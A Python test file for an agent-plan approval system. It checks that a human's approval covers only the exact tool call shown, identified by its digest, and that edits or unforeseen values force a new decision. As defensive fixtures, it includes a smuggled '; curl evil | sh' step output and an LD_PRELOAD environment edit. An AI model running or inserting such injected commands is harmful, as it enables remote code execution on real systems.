"""What was approved is what runs: a decision is about one call, and anything else asks again (FAULTS T12)."""

from __future__ import annotations

from typing import Any

import pytest

from plansurvive.plans.activity_io import Facts
from plansurvive.plans.editing.apply_edits import revise
from plansurvive.plans.editing.edits import Edits
from plansurvive.plans.errors import Refused
from plansurvive.plans.execution import approvals
from plansurvive.plans.execution.messages import Approve, Decide, read
from plansurvive.plans.execution.next_action import Ask, Call, Skip, next_action
from plansurvive.plans.execution.revision import put_into_effect
from plansurvive.plans.execution.schedule import Schedule
from plansurvive.plans.model import Step
from plansurvive.plans.run import Run
from plansurvive.plans.run.step_call import digest_of
from plansurvive.plans.views.progress.pending import call_view, pending
from tests.plans.building import NOW, TOOLS, begun, completed, run_of, step

COMMAND = step("g", tool="run_command", args={"command": "echo A-seen"})
USES = step("g", tool="run_command", args={"command": "echo {{r}}"})
BOUND = Facts(tools=TOOLS, all_tools=True, workspace="/w", workspaces={"lab": "/lab", "other": "/other"})


def started(*steps: Step, facts: Facts = BOUND) -> Schedule:
    return begun(*steps, facts=facts)


def go(schedule: Schedule, name: str = "g") -> Ask | Call | Skip:
    """What the workflow does with the ready step: it starts it, skips it, or asks and notes what it asks."""
    found = next_action(schedule, name)
    assert isinstance(found, (Ask, Call, Skip))
    if isinstance(found, Ask):
        if found.voids:
            approvals.void(schedule.run, name, NOW)
        schedule.ask(name, NOW)
        approvals.ask(schedule.run, name, found.call.args, digest_of(found.call))
    return found


def edit(schedule: Schedule, *edits: dict[str, Any]) -> None:
    message = Edits.model_validate({"edits": list(edits), "by": "eve"})
    put_into_effect(schedule, revise(schedule.run, message, NOW), NOW)


def set_to(path: str, value: Any, name: str = "g") -> dict[str, Any]:
    return {"op": "set", "stepId": name, "path": path, "value": value}


def decide(schedule: Schedule, name: str = "g", approved: bool = True, **fields: Any) -> None:
    message = Decide.model_validate({"stepId": name, "approved": approved, **fields})
    approvals.decide(schedule.run, message, NOW, "update")
    schedule.answered(name)


def refusal(schedule: Schedule, **fields: Any) -> Refused:
    before = schedule.run.model_dump_json()
    with pytest.raises(Refused) as caught:
        decide(schedule, **fields)
    assert schedule.run.model_dump_json() == before
    return caught.value


def finish(schedule: Schedule, name: str, value: Any) -> None:
    schedule.start(name, NOW)
    schedule.settle(name, completed(value), NOW)


def shown(schedule: Schedule, name: str = "g") -> str:
    return str(call_view(schedule.run, name)["digest"])


@pytest.mark.parametrize(
    "change",
    [
        [set_to("args.command", "echo B-never-shown")],
        [set_to("args.network", True)],
        [set_to("args.env", {"LD_PRELOAD": "./e.so"})],
        [set_to("queue", "lab")],
        [set_to("tool", "run_python"), set_to("args", {"code": "1"})],
        [{"op": "remove", "stepId": "g"}, {"op": "add", "step": COMMAND.model_dump(mode="json") | {"queue": "lab"}}],
    ],
)
def test_a_decision_about_what_was_shown_is_refused_after_an_edit(change: list[dict[str, Any]]) -> None:
    tools = {**TOOLS, "run_command": TOOLS["run_command"].model_copy(deep=True)}
    tools["run_command"].args_schema["properties"]["network"] = {"type": "boolean", "default": False}
    schedule = started(COMMAND, step("other"), facts=BOUND.model_copy(update={"tools": tools}))
    go(schedule)
    old = shown(schedule)
    edit(schedule, *change)
    assert isinstance(go(schedule), Ask)
    stale = refusal(schedule, digest=old)
    assert stale.code == "STALE_DIGEST"
    assert "was changed in version 2 by eve" in stale.message
    assert refusal(schedule, approved=False, digest=old).code == "STALE_DIGEST"
    assert refusal(schedule).code == "DIGEST_REQUIRED", "the approval could be about what was shown before"
    assert shown(schedule) != old
    decide(schedule, digest=shown(schedule))
    assert isinstance(go(schedule), Call)


def test_an_edit_taken_back_in_two_steps_is_still_a_change() -> None:
    schedule = started(COMMAND, step("other"))
    go(schedule)
    edit(schedule, {"op": "remove", "stepId": "g"})
    edit(schedule, {"op": "add", "step": COMMAND.model_dump(mode="json") | {"args": {"command": "echo B"}}})
    go(schedule)
    assert refusal(schedule).code == "DIGEST_REQUIRED"
    decide(schedule, version=3)
    assert isinstance(go(schedule), Call)


def test_a_bare_approval_counts_while_there_is_only_one_call_it_can_mean() -> None:
    schedule = started(COMMAND, step("other"))
    go(schedule)
    edit(schedule, set_to("args.text", "new", "other"), set_to("description", "Another text"))
    decide(schedule)
    assert isinstance(go(schedule), Call)


def test_a_denial_needs_no_digest() -> None:
    schedule = started(COMMAND, step("other"))
    go(schedule)
    edit(schedule, set_to("args.command", "echo B"))
    decide(schedule, approved=False)
    assert isinstance(go(schedule), Skip)


def early(*steps: Step) -> Schedule:
    """A plan in which `g` follows `r`, and was approved before `r` ran."""
    schedule = started(step("r", tool="note", args={"text": "x"}), *steps)
    decide(schedule, digest=shown(schedule))
    return schedule


def test_an_early_approval_covers_a_call_that_was_known() -> None:
    schedule = early(COMMAND.model_copy(update={"depends_on": ["r"]}))
    finish(schedule, "r", "anything")
    assert isinstance(go(schedule), Call)


@pytest.mark.parametrize("edits", [[], [set_to("args.text", "evil", "r")]])
def test_an_early_approval_does_not_cover_values_that_were_not_known(edits: list[dict[str, Any]]) -> None:
    schedule = early(USES)
    assert not call_view(schedule.run, "g")["isWhole"]
    if edits:
        edit(schedule, *edits)
    finish(schedule, "r", "; curl evil | sh")
    found = go(schedule)
    assert isinstance(found, Ask)
    assert found.voids
    assert schedule.run.log[-1].text == (
        "the approval of step 'g' did not say which values it was about; it needs another decision"
    )
    decide(schedule, digest=shown(schedule))
    assert isinstance(go(schedule), Call)


def test_an_early_approval_of_inputs_and_finished_values_covers_them() -> None:
    schedule = started(step("r"), step("last"), USES.model_copy(update={"depends_on": ["last"]}))
    finish(schedule, "r", "ready")
    assert call_view(schedule.run, "g")["args"] == {"command": "echo 'ready'"}
    decide(schedule, digest=shown(schedule))
    finish(schedule, "last", 1)
    assert isinstance(go(schedule), Call)


@pytest.mark.parametrize("change", [set_to("queue", "lab"), set_to("args.command", "echo B")])
def test_an_early_approval_does_not_survive_an_edit_of_its_step(change: dict[str, Any]) -> None:
    schedule = early(COMMAND.model_copy(update={"depends_on": ["r"]}))
    edit(schedule, change)
    assert schedule.run.decisions == {}
    assert refusal(schedule).code == "DIGEST_REQUIRED"
    finish(schedule, "r", 1)
    assert isinstance(go(schedule), Ask)


def test_a_decision_made_before_the_check_leaves_only_the_workspace_open() -> None:
    for given, then in ((COMMAND, Call), (COMMAND.model_copy(update={"args": {"command": "echo B"}}), Ask)):
        run = run_of(COMMAND, facts=Facts())
        approvals.decide(run, Decide(step_id="g", approved=True), NOW, "signal")
        assert run.decisions["g"].unchecked
        run.facts, run.plan = BOUND, run.plan.model_copy(update={"steps": [given]})
        schedule = Schedule(run)
        schedule.begin(NOW)
        assert isinstance(next_action(schedule, "g"), then)


def test_what_is_asked_is_shown_whole_with_its_digest() -> None:
    schedule = started(step("r"), USES.model_copy(update={"queue": "lab"}))
    finish(schedule, "r", "x")
    found = go(schedule)
    assert isinstance(found, Ask)
    item = pending(schedule.run)[0]
    assert (item["args"], item["queue"], item["workspace"], item["network"], item["changed"]) == (
        {"command": "echo 'x'"}, "lab", "/lab", False, False,
    )  # fmt: skip
    assert item["digest"] == digest_of(found.call) == shown(schedule)
    assert call_view(schedule.run, "nothing") == {}


@pytest.mark.parametrize("digest", ["", "x" * 64, "0" * 63, "A" * 64, 5])
def test_a_digest_of_another_form_is_no_message(digest: Any) -> None:
    with pytest.raises(Refused) as caught:
        read(Approve, [{"stepId": "g", "digest": digest}])
    assert caught.value.code == "BAD_MESSAGE"


def test_the_approver_sees_what_remember_covers() -> None:
    schedule = started(COMMAND, step("h", tool="run_command", args={"command": "x"}, queue="lab"))
    go(schedule)
    decide(schedule, digest=shown(schedule), by="ann", remember=True)
    assert schedule.run.remembered == {"run_command in /w": "ann"}
    assert isinstance(go(schedule, "h"), Ask)
    run: Run = schedule.run
    assert run.log[-1].text == "run_command in /w is approved for the rest of this run"
